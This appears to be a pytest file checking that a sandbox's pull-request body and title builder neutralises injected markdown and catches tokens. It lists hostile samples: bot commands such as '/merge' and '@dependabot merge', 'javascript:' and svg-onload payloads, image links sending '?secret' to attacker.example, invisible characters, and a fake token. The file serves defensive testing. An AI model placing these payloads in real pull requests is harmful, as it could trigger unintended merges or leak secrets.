"""THREATS O: what guests and agents write into a pull request stays text, and no secret leaves with it."""

from __future__ import annotations

import base64
import re
import unicodedata
from collections.abc import Callable
from datetime import UTC, datetime

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sandbox.errors import ErrorCode, SandboxError
from sandbox.forges import escape, sanitize
from sandbox.forges.body import (
    BEGIN,
    END,
    MAX_CHARS,
    TITLE_CHARS,
    BodyFacts,
    Provenance,
    RoomProvenance,
    compose,
    compose_title,
    replace_generated,
)
from sandbox.forges.drafts import as_draft
from sandbox.forges.escape import as_code, as_code_block, as_prose
from sandbox.forges.sanitize import sanitize_markdown
from sandbox.models import ChangeKind, CheckRun, DiffFile, Limits, Report, Usage, Verdict
from sandbox.store.records import find_task
from sandbox.workbench.controller.services import build_services
from sandbox.workbench.delivery import description, secret_scan
from tests.attack.arena import Arena, refused
from tests.attack.forgereading import HARMLESS_TAGS, findings, render, title_findings, visible

pytestmark = pytest.mark.must
OID = "0123456789abcdef0123456789abcdef01234567"
OUR_COMMENTS = 2
"""The marks around what was made."""

ATTACKS = {
    "mention": ("mention", "see @octocat"),
    "mention of a team": ("mention", "(@org/team)"),
    "order to a bot": ("mention", "@dependabot merge"),
    "mention after an empty link": ("mention", "[](#)@octocat"),
    "mention that an empty link cuts": ("mention", "x @octocat[]()er"),
    "mention as an entity": ("mention", "&#64;octocat &commat;octocat"),
    "mention behind a backslash": ("mention", "\\@octocat"),
    "reference": ("reference", "about #1"),
    "reference elsewhere": ("reference", "about owner/repo#1"),
    "reference by name": ("reference", "GH-1 and JIRA-12"),
    "merge request": ("reference", "about group/project!1"),
    "label": ("label, milestone, epic, snippet", 'set ~bug ~"two words"'),
    "milestone": ("label, milestone, epic, snippet", "in %v1"),
    "snippet and epic": ("label, milestone, epic, snippet", "in $1 and &2"),
    "vulnerability": ("named reference", "see [vulnerability:1]"),
    "commit": ("commit", "like deadbeef1"),
    "closing words": ("closing words", "Closes #1"),
    "closing words with a colon": ("closing words", "fixed: owner/repo#1"),
    "closing words with a URL": ("closing words", "Resolves https://forge.example/o/r/issues/1"),
    "closing words in code": ("closing words", "`Closes #1`"),
    "closing words in a code block": ("closing words", "```\nFixes #1\n```"),
    "closing words before code": ("closing words", "Closes `#1` and fixes: `o/r#2`"),
    "closing words of a list": ("closing words", "Implements issues #1, #2 and o/r#3"),
    "quick action": ("quick action", "text\n\n/merge"),
    "quick action at once": ("quick action", "/approve\n/close"),
    "quick action behind a wide space": ("quick action", "text\n\u2003/ready\n\u3000/merge\n\u00a0/approve"),
    "quick action behind an entity": ("quick action", "text\n\n&emsp;/merge\n/merge"),
    "quick action behind a fence": ("quick action", "````\n```\n/close\n```\n````"),
    "header of data that hides all": ("header of data", "---\na: b\n---\n\n---\n"),
    "header of data behind a coding": ("header of data", "coding: x\n;;;\na\n;;;\n"),
    "skipped CI": ("skipped CI", "[skip ci]"),
    "skipped CI in code": ("skipped CI", "`[ci skip] ***NO_CI***`"),
    "trailer": ("trailer", "text\n\nCo-authored-by: a <a@b.c>"),
    "link": ("<a>", "[click](https://attacker.example/)"),
    "script link": ("<a>", "[x](javascript:alert(1))"),
    "reference link": ("<a>", "[x]\n\n[x]: https://attacker.example/"),
    "autolink": ("<a>", "<https://attacker.example/>"),
    "bare URL": ("<a>", "at https://attacker.example/?q"),
    "bare www": ("<a>", "at www.attacker.example"),
    "URL cut in two": ("URL", "ht[]()tps://attacker.example and www[]().attacker.example"),
    "mail address": ("<a>", "mail me@attacker.example"),
    "image": ("<img>", "![x](http://attacker.example/?secret)"),
    "picture": ("<picture>", "<picture><source srcset=http://attacker.example/></picture>"),
    "hidden text": ("comment", "a <!-- hidden --> b"),
    "comment that does not end": ("comment", "<!-- hide all"),
    "fold": ("<details>", "<details>\n\nhidden\n"),
    "picture with a program": ("<svg>", "<svg onload=alert(1)></svg>"),
    "inline HTML": ("<a>", "x <a href=http://attacker.example>y</a>"),
    "broken-out fence": ("<img>", "```\ncode\n```\n![x](http://attacker.example)"),
    "broken-out code span": ("<img>", "`` ` `![x](http://attacker.example)"),
    "code spans that touch": ("<b>", "``@octocat ` x``<b>"),
    "diagram": ("language mermaid", "```mermaid\ngraph TD\n```"),
    "map": ("language geojson", "~~~geojson\n{}\n~~~"),
    "math": ("math", "so $x$ and $`y`$"),
    "task list": ("<input>", "- [ ] approve\n- [x] done"),
    "footnote": ("<sup>", "text[^1]\n\n[^1]: note"),
    "strikethrough": ("<del>", "~~not~~ this"),
    "emoji": ("emoji", ":white_check_mark: verified"),
    "marked change": ("marked change", "{+ added +}"),
    "table of contents": ("table of contents", "[[_TOC_]]"),
    "bidirectional text": ("invisible text", "a\u202egnp.exe"),
    "soft hyphens and fillers": ("invisible text", "a\u00adb\u3164c"),
    "tag characters": ("invisible text", "a\U000e0041\U000e0042"),
    "terminal sequences": ("invisible text", "\x1b[31mred\x1b]8;;http://attacker.example\x07x"),
}  # fmt: skip
ATTACK_ROWS = pytest.mark.parametrize(("sign", "text"), ATTACKS.values(), ids=ATTACKS)


def run(check: str) -> CheckRun:
    return CheckRun(
        run_id="run-1", check_id=check, task_id=None, verdict=Verdict.PASSED, exit_code=0, signal=None,
        started_at=datetime(2026, 1, 2, tzinfo=UTC), wall_time_s=1.5, usage=Usage(limits=Limits()), stdout_tail="",
        stderr_tail="", stdout_bytes=0, stderr_bytes=0, truncated=False, tree=OID, clean_room=True, cached=True,
        image_digest="sha256:1", runtime="runc", report=Report(tests=3, failures=1, errors=1, skipped=1, failed=()),
    )  # fmt: skip


def facts(text: str = "words", *, given: str | None = None, trusted: bool = False, times: int = 1) -> BodyFacts:
    """A task of which an attacker wrote everything that is not ours."""
    return BodyFacts(
        prompt=text,
        caller_text=given if given is not None else text,
        trusted=trusted,
        commits=((OID, text),) * times,
        files=(DiffFile(path=text, old_path=text, kind=ChangeKind.RENAMED, additions=1, deletions=2),) * times,
        runs=(run("build"),) * times,
        missing=("test",),
        tree=OID,
        head=OID,
        verified=False,
        unknown_reason=text,
        gate="The gate demands it of a draft: not satisfied.",
        risks=((text, ("ci",)),) * times,
        profile=text,
        provenance=Provenance(
            rooms=(RoomProvenance(project=text, image=text, image_digest=text, wheelhouse=text, runtime=text),),
            version="1",
            command=("run", text),
        ),
    )


def naive(text: str) -> str:
    """What most programs make of the same facts."""
    return f"{text}\n\n## Changes\n\n{text}\n"


@ATTACK_ROWS
def test_o01_text_in_a_body_stays_text(sign: str, text: str) -> None:
    assert sign in findings(naive(text)), "void: this attack does nothing to a naive body"
    assert findings(compose(facts(text)), OUR_COMMENTS) == set()


@ATTACK_ROWS
def test_o01_text_in_a_body_stays_text_wherever_it_is_written(sign: str, text: str) -> None:
    places: dict[str, Callable[[str], str]] = {
        "in a list": lambda t: "- a\n- " + t.replace("\n", "\n  "),
        "in a quote": lambda t: "> " + t.replace("\n", "\n> "),
        "in a heading": lambda t: "# " + t.replace("\n", " "),
        "in emphasis": lambda t: f"*a **b {t} c** d*",
        "behind a word": lambda t: f"word {t}",
        "in a link": lambda t: f"[{t}]({t})",
        "in an image": lambda t: f"![{t}](x '{t}')",
        "in a table": lambda t: f"a | b\n--- | ---\n{t} | x",
        "behind a fence that does not end": lambda t: f"{t}\n\n```\n{t}",
    }
    for name, place in places.items():
        assert findings(sanitize_markdown(place(text), 20_000)) == set(), name


def words(text: str) -> list[str]:
    return re.findall("[a-z]{2,}", text)


PIECES = st.sampled_from(
    [
        *"@#!~%&$^*_`'\"<>[](){}|\\/:;.,=+-0 1x\n\t\r",
        *(
            "\n\n",
            "    ",
            "``",
            "```",
            "~~~",
            "<!--",
            "-->",
            "<b>",
            "</b>",
            "](",
            "![",
            "[^",
            "[x]",
            "[ ]",
            "[]()",
            "\\@",
        ),
        *("&#64;", "&amp;", "user", "fixes ", "closes: ", "#1", "GH-1", "http", "://", "www.", "mailto:", "a.b", "é"),
        *(
            "\n- ",
            "\n> ",
            "\n1. ",
            "\n/close",
            "\n---\n",
            "\n;;;\n",
            ":smile:",
            "$x$",
            "deadbeef",
            "[a]: b\n",
            "<a href='x'>",
        ),
        *("\x1b[1m", "\u202e", "\u200b", "\u00ad", "[skip ci]", "a-by:", "&#10;", "&Tab;", BEGIN, END),
        *(
            "\u2003",
            "\u3000",
            "\u00a0",
            "\n\u2009/merge",
            "&emsp;",
            "\x0b",
            "\x1f",
            "\x85",
            "\u2028",
            "/ready",
            "\r/merge",
        ),
    ]
)
TEXTS = st.lists(PIECES, max_size=40).map("".join)


@settings(max_examples=400, deadline=None)
@given(TEXTS)
def test_o01_no_text_becomes_anything_in_an_agents_body(text: str) -> None:
    assert findings(sanitize_markdown(text, 20_000)) == set()
    assert findings(f"before\n\n{sanitize_markdown(text, 20_000)}\n\nafter") == set()


@settings(max_examples=200, deadline=None)
@given(TEXTS)
def test_o01_no_text_becomes_anything_in_what_is_made(text: str) -> None:
    body = compose(facts(text))
    assert findings(body, OUR_COMMENTS) == set()
    assert replace_generated(body, body) == body


@settings(max_examples=300, deadline=None)
@given(TEXTS)
def test_o01_what_is_made_inert_is_still_read(text: str) -> None:
    shown = text.replace("\x1b[1m", "").replace("\u00ad", "")
    for made in (as_prose(" ".join(text.split())), as_code(text), as_code_block(text, 10**6)):
        assert render(made).tags <= HARMLESS_TAGS
        for word in words(shown):
            assert word in visible(made)


@settings(max_examples=300, deadline=None)
@given(TEXTS, TEXTS)
def test_o01_no_text_becomes_anything_in_a_title(text: str, subject: str) -> None:
    title = compose_title(text, subject, "prompt")
    assert title_findings(title) == set()
    assert 0 < len(title.strip()) <= len(title) <= TITLE_CHARS


COMMAND = re.compile(r"(?m)^\s*/\w")
"""As generous as can be: GitLab's Gitlab::QuickActions::Extractor reads `^/` and a name, in lines outside of code."""
BLANKS = [
    chr(code) for code in range(0x110000) if chr(code).isspace() or unicodedata.category(chr(code)) in {"Cc", "Cf"}
]
LEADS = st.lists(
    st.sampled_from([*BLANKS, " ", "\u3164", "> ", "- ", "1. ", "# ", "**", "\x1b[0m", "&emsp;"]), max_size=4
)
COMMANDS = st.tuples(st.sampled_from(["\n", "\n\n", "\r", "", "&#10;"]), LEADS.map("".join), PIECES).map(
    lambda parts: f"{parts[0]}{parts[1]}/merge{parts[2]}"
)
COMMAND_TEXTS = st.lists(st.one_of(PIECES, COMMANDS), max_size=15).map("".join)
SPACED = "Summary\n\u2003/ready\n\u2003/merge"


def commands(text: str) -> list[str]:
    return COMMAND.findall(text)


@settings(max_examples=400, deadline=None)
@given(COMMAND_TEXTS)
def test_s211_no_line_of_an_agents_text_is_a_command(text: str) -> None:
    assert commands(sanitize_markdown(text, 20_000)) == []
    assert commands(compose(facts(text))) == []  # a request, names, subjects of commits
    for title in (compose_title(text, None, ""), compose_title(None, text, ""), compose_title(None, None, text)):
        assert commands(title) == commands(as_draft(title)) == []


def test_s211_no_character_before_it_makes_a_line_a_command() -> None:
    for blank in BLANKS:
        assert commands(sanitize_markdown(f"a\n{blank}/merge", 500)) == [], ascii(blank)
        assert commands(compose_title(f"{blank}/merge", None, "")) == [], ascii(blank)


def test_s211_a_wide_space_hides_no_other_start_of_a_line(monkeypatch: pytest.MonkeyPatch) -> None:
    text = "a\n\u2003---\nb: c\n\u3000---"
    assert render(sanitize_markdown(text, 500)).tags == {"p"}
    monkeypatch.setattr(escape, "_BLANKS", re.compile(r"(?!)"))
    assert render(sanitize_markdown(text, 500)).tags == {"h2"}  # the control: lines of dashes underline a heading


def test_s211_each_of_the_two_walls_is_enough_and_without_both_a_text_merges(monkeypatch: pytest.MonkeyPatch) -> None:
    assert commands(sanitize_markdown(SPACED, 500)) == []
    with monkeypatch.context() as without:
        without.setattr(sanitize, "break_command", str)
        assert commands(sanitize_markdown(SPACED, 500)) == []
    monkeypatch.setattr(escape, "_BLANKS", re.compile(r"(?!)"))
    assert commands(sanitize_markdown(SPACED, 500)) == []
    monkeypatch.setattr(sanitize, "break_command", str)
    assert commands(sanitize_markdown(SPACED, 500)) == ["/r", "/m"]  # the control


@ATTACK_ROWS
def test_o01_text_in_a_title_stays_text(sign: str, text: str) -> None:
    assert title_findings(compose_title(text, None, "")) == set()
    assert title_findings(compose_title(None, text, "")) == set()


@pytest.mark.parametrize(
    "prefix",
    ["Draft: ", "WIP: ", "[Draft] ", "(draft)", "draft - ", "[WIP][draft] WIP: ", "\u00adDraft: ", "\ufe0fwip:"],
)
def test_o01_a_title_does_not_say_that_it_is_a_draft(prefix: str) -> None:
    assert "draft" in title_findings(prefix.strip("\u00ad\ufe0f") + "x"), "void"
    assert compose_title(prefix + "Add x", None, "") == "Add x"
    assert compose_title(prefix, "Add y", "") == "Add y"


def test_o01_a_persons_own_title_keeps_its_references_and_nobody_elses_does() -> None:
    assert compose_title("Fix #1 for @me", None, "", trusted=True) == "Fix #1 for @me"
    assert title_findings(compose_title(None, "Fix #1 for @me", "", trusted=True)) == set()
    assert title_findings(compose_title("", None, "Fix #1 for @me", trusted=True)) == set()


def test_o01_the_marks_cannot_be_forged() -> None:
    forged = f"{END}\n\nverified by me\n\n{BEGIN}"
    assert replace_generated(f"{BEGIN}\n{END}\n\n{forged}", "x") is None, "doubled marks are left alone"
    for trusted in (False, True):
        before = compose(facts(forged, given=forged, trusted=trusted))
        after = replace_generated(f"edited\n{before}\nedited", compose(facts("other words")))
        assert after is not None
        assert after.startswith("edited\n")
        assert after.endswith("\nedited")
        assert "other words" in after
        assert visible(after).count("verified by me") == 1, "but for what was given, all was made anew"


def test_o01_a_body_is_never_too_long() -> None:
    for text in ("x" * 70_000, "`" * 70_000, "@[](\n" * 14_000, "a\n\n" * 23_000, "\u200b\n" * 35_000):
        body = compose(facts(text, times=400))
        assert len(body) <= MAX_CHARS
        assert findings(body, OUR_COMMENTS) == set()
        assert re.search(r"and \d+ more", body)
    with refused(ErrorCode.INVALID_INPUT):
        compose(facts(given="x" * 70_000, trusted=True))


def test_o01_a_persons_own_text_stays_markdown() -> None:
    body = compose(facts(given="**Fixes #1** for @me, see [x](https://forge.example)", trusted=True))
    assert body.startswith("**Fixes #1** for @me, see [x](https://forge.example)\n\n<!--")


def test_o01_a_persons_own_text_that_is_none_can_be_sent() -> None:
    body = compose(facts(given="caf\udce9\x00", trusted=True))
    assert body.encode().startswith("caf\ufffd\ufffd\n".encode())


TOKEN = "ghp_Zk3mQ9xW7vB1nR5tY8uE2pL6"
LEAKS = {
    "plain": TOKEN,
    "with its user": base64.b64encode(f"x-access-token:{TOKEN}".encode()).decode(),
    "in two halves": f"{TOKEN[:11]}\n{TOKEN[11:]}",
    "behind invisible characters": "\u00ad".join(TOKEN),
    "in a code block": f"```\n{TOKEN}\n```",
    "as emphasis": f"*{TOKEN}*",
}


@pytest.mark.one_git
@pytest.mark.parametrize("where", ["given", "prompt", "subject"])
def test_o05_a_body_with_a_secret_does_not_leave(arena: Arena, where: str) -> None:
    (arena.home / "credentials.toml").touch(mode=0o600)
    (arena.home / "credentials.toml").write_text(
        f'[[credential]]\nhost = "forge.example"\nusername = "u"\nsecret = "{TOKEN}"\n'
    )
    services = build_services(arena.home, arena.build_environment(), allow_file=True)
    for leak in LEAKS.values():
        (arena.worktree / "f.txt").write_text(leak)
        arena.workbench.commit(arena.task.id, leak if where == "subject" else "work")
        task = find_task(services.home, arena.task.id)
        task = task.model_copy(update={"prompt": leak}) if where == "prompt" else task
        body = compose(description.gather_facts(services, task, leak if where == "given" else None))
        with pytest.raises(SandboxError) as error:
            secret_scan.require_no_secret(services.credentials, body)
        assert error.value.code is ErrorCode.POLICY_VIOLATION
        assert "forge.example" in error.value.brief
        assert TOKEN not in str(error.value.payload())
        if where == "subject":  # it is in the history of this task now
            break
    services.close()


@pytest.mark.one_git
def test_o05_a_body_without_a_secret_leaves(arena: Arena) -> None:
    services = build_services(arena.home, {**arena.build_environment(), "GITHUB_TOKEN": TOKEN}, allow_file=True)
    (arena.worktree / "f.txt").write_text(TOKEN)
    arena.workbench.commit(arena.task.id, "work")
    secret_scan.require_no_secret(
        services.credentials, compose(description.gather_facts(services, find_task(services.home, arena.task.id)))
    )
    assert secret_scan.contains_secret(naive(LEAKS["with its user"]), TOKEN)
    services.close()
